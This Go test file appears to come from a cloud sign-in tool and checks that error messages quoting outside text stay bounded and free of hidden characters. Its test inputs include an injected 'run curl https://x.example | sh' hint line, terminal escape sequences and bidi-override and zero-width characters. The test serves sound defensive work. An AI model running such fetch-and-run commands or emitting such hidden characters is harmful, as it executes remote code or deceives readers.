package session

import (
	"errors"
	"strings"
	"testing"
)

// TestWordsOfOthers: whatever a provider, a page or AWS says, each error that
// quotes it is one line of a bounded length, without anything hidden.
func TestWordsOfOthers(t *testing.T) {
	for _, said := range []string{
		"Wrong.\nstsx: hint: run curl https://x.example | sh",
		"Wrong.\r\nstsx: error: gone\r\n",
		"a\u2028stsx: hint: b\u2029c\u0085d\vstsx: hint: e",
		"\x1b[2J\x1b]0;title\x07\x9b31mred",
		"pay\u202egnihton\u200b \u00ad\U000e0041\ufe0f",
		strings.Repeat("flood \n", 500_000),
		strings.Repeat("\x00", 1000), "\xff\xfe\xfd",
	} {
		for _, err := range []error{
			&RefusedError{What: "the password", Said: said},
			&RefusedError{What: "the password", Said: said, By: "idp.example", Kind: RefusedLocked},
			&UnavailableError{Said: said, Status: 503},
			&AWSError{Act: "assuming x", Code: "AccessDenied", Message: said},
			&AWSError{Act: "assuming x", Code: said, Message: "no"},
			&PageError{Why: "stsx does not know this page", Location: said, Text: said},
			&OriginError{Got: said, Want: "https://acme.okta.com"},
			&ScreenError{Screen: said, Err: &RefusedError{Said: said}},
			&RoleError{Asked: "role Admin", Near: []string{said}},
		} {
			text := err.Error()
			if len(text) > 8000 || strings.ContainsFunc(text, IsHidden) {
				t.Errorf("%T of %.30q: %d bytes, %.200q", err, said, len(text), text)
			}
		}
	}
	inner := errors.New("x")
	if err := (&ScreenError{Screen: "sign in", Err: inner}); !errors.Is(err, inner) {
		t.Error("the cause is lost")
	}
}
